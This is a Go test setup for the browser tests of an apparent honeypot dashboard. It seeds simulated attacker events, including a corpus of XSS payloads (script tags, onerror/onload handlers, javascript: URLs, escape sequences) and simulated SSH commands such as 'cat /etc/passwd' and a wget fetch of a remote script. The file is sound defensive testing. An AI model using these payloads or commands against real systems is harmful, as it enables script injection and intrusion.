package webui_test

// The environment of the browser tests: the real API server (internal/api) over a
// real SQLite store, fed by the real ingester from a spool, with the attackers
// built by the real analysis worker and a fleet recorded by the real config and
// state packages. Nothing is faked: the browser sees what `decnet api` serves.

import (
	"context"
	"fmt"
	"io"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"decnet/internal/analysis"
	"decnet/internal/api"
	"decnet/internal/bus"
	"decnet/internal/event"
	"decnet/internal/ingest"
	"decnet/internal/spool"
	"decnet/internal/store"
	"decnet/internal/testenv"
	"decnet/internal/webui"

	_ "decnet/internal/services/all" // the service registry the fleet is built from
)

// firstRunPassword is the admin's first password, configured as `decnet api`
// takes it from its flag; the test changes it at first login to newPassword, then
// in the settings page to thirdPassword.
const (
	firstRunPassword = "first-run-Pa55word"
	newPassword      = "changed-Pa55word-2026"
	thirdPassword    = "settings-Pa55word-3"
)

// Seeded attackers (documentation ranges, never contacted: they are only text).
const (
	ipBrute   = "198.51.100.10"
	ipHostile = "198.51.100.66"
	ipFiller  = "203.0.113.7"
	ipSearch  = "203.0.113.42"
	ipLive    = "198.51.100.99"

	searchUser  = "searchmark-user"
	searchCount = 7
	fillerCount = 250
)

// hostile is the corpus of attacker-controlled strings the dashboard must show
// literally and never execute.
var hostile = []string{
	`<script>alert(1)</script>`,
	`javascript:alert(1)`,
	`<svg onload=alert(1)>`,
	`<img src=x onerror="console.log('DECNET-XSS-MARKER');window.__decnetXSS=1">`,
	`"><svg/onload=alert(document.domain)><a href="javascript:alert(3)">x</a>`,
	`&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;i&#x3E;`,
	"\x1b[31mRED\x1b[0m \x1b]0;title\x07 \u202eevil\u202c",
	"bad-utf8:\xff\xfe\xc3( end",
	strings.Repeat("A", 100*1024) + `<script>alert(2)</script>TAIL`,
}

// hostileFields are the event fields each hostile string is placed in.
var hostileFields = []string{"username", "password", "command", "path", "user_agent", "sni"}

type env struct {
	t      *testing.T
	url    string
	st     store.Store
	bus    *bus.Bus
	spool  *spool.Writer
	seq    atomic.Int64
	base   time.Time
	events int // events written to the spool so far
}

func newEnv(t *testing.T) *env {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	dir := t.TempDir()
	st, err := store.Open(ctx, store.DefaultDSN(dir))
	if err != nil {
		t.Fatalf("open the store: %v", err)
	}
	t.Cleanup(func() { st.Close() })
	b := bus.New()
	t.Cleanup(b.Close)

	spoolDir := dir + "/spool"
	w, err := spool.OpenWriter(spoolDir, spool.DefaultSegmentSize)
	if err != nil {
		t.Fatalf("open the spool: %v", err)
	}
	t.Cleanup(func() { w.Close() })
	in := ingest.New(ingest.Config{Store: st, SpoolDir: spoolDir, Bus: b, FlushInterval: 50 * time.Millisecond, PollInterval: 20 * time.Millisecond})
	done := make(chan struct{})
	go func() {
		defer close(done)
		if err := in.Run(ctx); err != nil && ctx.Err() == nil {
			t.Errorf("the ingester stopped: %v", err)
		}
	}()
	t.Cleanup(func() { cancel(); <-done })

	testenv.WriteFleet(t, dir, 3, "dnt-webui0")
	srv, err := api.New(api.Config{
		Store: st, Bus: b, StateDir: dir, Assets: webui.Assets(),
		AdminPassword: firstRunPassword, PasswordOut: io.Discard,
		Heartbeat: 2 * time.Second,
	})
	if err != nil {
		t.Fatalf("start the API server: %v", err)
	}
	hs := httptest.NewServer(srv.Handler())
	t.Cleanup(hs.Close)
	e := &env{t: t, url: hs.URL, st: st, bus: b, spool: w, base: time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Microsecond)}
	e.seed()
	return e
}

// emit writes one event to the spool (the ingester stores it and publishes it on
// the bus) and returns it.
func (e *env) emit(at time.Time, decky, service, typ, ip string, fields map[string]string, msg string) event.Event {
	e.t.Helper()
	n := e.seq.Add(1)
	ev := event.Event{
		ID:   fmt.Sprintf("0190d6c0-0000-7000-8000-%012d", n),
		Time: at.UTC().Truncate(time.Microsecond), Decky: decky, Service: service, Type: typ,
		AttackerIP: ip, AttackerPort: 40000 + int(n%20000), Fields: fields, Msg: msg,
	}
	line, err := event.Format(ev)
	if err != nil {
		e.t.Fatalf("format a test event: %v", err)
	}
	if _, err := e.spool.Append(&spool.Record{Event: ev, RawLine: string(line)}); err != nil {
		e.t.Fatalf("spool a test event: %v", err)
	}
	if err := e.spool.Sync(); err != nil {
		e.t.Fatalf("sync the spool: %v", err)
	}
	e.events++
	return ev
}

// seed stores the data set every page is checked against, then runs the real
// analysis worker over it.
func (e *env) seed() {
	t := e.t
	at := func(i int) time.Time { return e.base.Add(time.Duration(i) * time.Second) }
	i := 0
	// A brute forcer that moves from decky-01 to decky-02 and runs commands.
	for _, u := range []string{"root", "admin", "oracle", "pi"} {
		e.emit(at(i), "decky-01", "ssh", event.Auth, ipBrute, map[string]string{"username": u, "password": "hunter2", "outcome": "failure", "client_version": "SSH-2.0-libssh_0.9.6"}, "")
		i++
	}
	e.emit(at(i), "decky-01", "ssh", event.Auth, ipBrute, map[string]string{"username": "root", "password": "toor", "outcome": "success"}, "")
	i++
	for _, c := range []string{"uname -a", "cat /etc/passwd", "wget http://203.0.113.5/x.sh"} {
		e.emit(at(i), "decky-01", "ssh", event.Command, ipBrute, map[string]string{"command": c, "username": "root"}, "")
		i++
	}
	e.emit(at(i), "decky-02", "http", event.Request, ipBrute, map[string]string{"method": "GET", "path": "/admin", "user_agent": "curl/7.88.1"}, "")
	i++
	// Search targets.
	for k := 0; k < searchCount; k++ {
		e.emit(at(i), "decky-03", "ssh", event.Auth, ipSearch, map[string]string{"username": searchUser, "password": fmt.Sprintf("pw-%d", k), "outcome": "failure"}, "")
		i++
	}
	// Filler for infinite scroll.
	for k := 0; k < fillerCount; k++ {
		e.emit(at(i), "decky-03", "http", event.Connect, ipFiller, map[string]string{"path": fmt.Sprintf("/filler/%d", k)}, "")
		i++
	}
	// The hostile corpus, in every field an attacker controls, newest of all so the
	// overview and the first page of events show it.
	for k, h := range hostile {
		decky := []string{"decky-01", "decky-02"}[k%2]
		e.emit(at(i), decky, "ssh", event.Auth, ipHostile, map[string]string{"username": h, "password": h, "outcome": "failure"}, h)
		i++
		e.emit(at(i), decky, "ssh", event.Command, ipHostile, map[string]string{"command": h, "username": h}, "")
		i++
		e.emit(at(i), decky, "http", event.Request, ipHostile, map[string]string{"method": "GET", "path": h, "user_agent": h, "sni": h}, h)
		i++
	}
	e.waitStored(e.events)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if err := analysis.New(e.st, analysis.Options{Settle: time.Millisecond}).CatchUp(ctx); err != nil {
		t.Fatalf("analyse the seeded events: %v", err)
	}
}

// waitStored waits until the store holds n events.
func (e *env) waitStored(n int) {
	e.t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		got, err := e.st.CountLogs(context.Background(), store.LogQuery{})
		if err != nil {
			e.t.Fatalf("count stored events: %v", err)
		}
		if got >= int64(n) {
			return
		}
		if time.Now().After(deadline) {
			e.t.Fatalf("the ingester stored %d of %d events in 30 s", got, n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
